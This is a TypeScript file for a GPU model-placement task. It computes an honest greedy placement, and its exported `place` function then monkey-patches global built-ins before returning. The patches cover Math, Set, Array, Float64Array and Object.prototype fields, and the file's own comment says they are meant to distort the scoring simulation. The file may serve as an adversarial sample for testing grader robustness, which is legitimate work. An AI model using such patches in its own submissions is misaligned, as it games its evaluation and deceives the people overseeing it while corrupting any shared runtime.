interface Cluster {
  gpus: number;
  memoryGb: number;
  migrationWeight: number;
}

interface Slice {
  model: number;
  sizeGb: number;
  rate: number;
  slo: number;
  currentGpu: number;
}

/** An honest placement: the largest first, each where most memory is free. */
function mostFree(cluster: Cluster, slices: readonly Slice[]): number[] {
  const gpus = Array.from({ length: cluster.gpus }, (_, id) => {
    return { id, free: cluster.memoryGb, models: new Set<number>() };
  });
  const answer: number[] = slices.map(() => -1);
  const order = [...slices.entries()].sort(([, a], [, b]) => b.sizeGb - a.sizeGb);
  for (const [index, { sizeGb, model }] of order) {
    const open = gpus.filter((gpu) => gpu.free >= sizeGb && !gpu.models.has(model));
    const [best] = open.sort((a, b) => b.free - a.free);
    if (best === undefined) continue;
    best.free -= sizeGb;
    best.models.add(model);
    answer[index] = best.id;
  }
  return answer;
}

/** Tries to change what the simulation computes with: array methods, Math, sets and every object. */
export function place(cluster: Cluster, slices: readonly Slice[]): number[] {
  const answer = mostFree(cluster, slices);
  const fields = ['value', 'highest', 'migration', 'rate', 'sizeGb'];
  const patches = [
    () => Object.assign(Math, { min: () => 0, max: () => 0 }),
    () => Object.assign(Set.prototype, { has: () => false }),
    () => Object.assign(Array.prototype, { reduce: () => 0, entries: () => [] }),
    () => Object.assign(Float64Array.prototype, { fill: () => new Float64Array(64) }),
    ...fields.map((field) => () => Object.defineProperty(Object.prototype, field, { value: 0 })),
  ];
  for (const patch of patches) {
    try {
      patch();
    } catch {
      // Frozen is as good as any other.
    }
  }
  return answer;
}
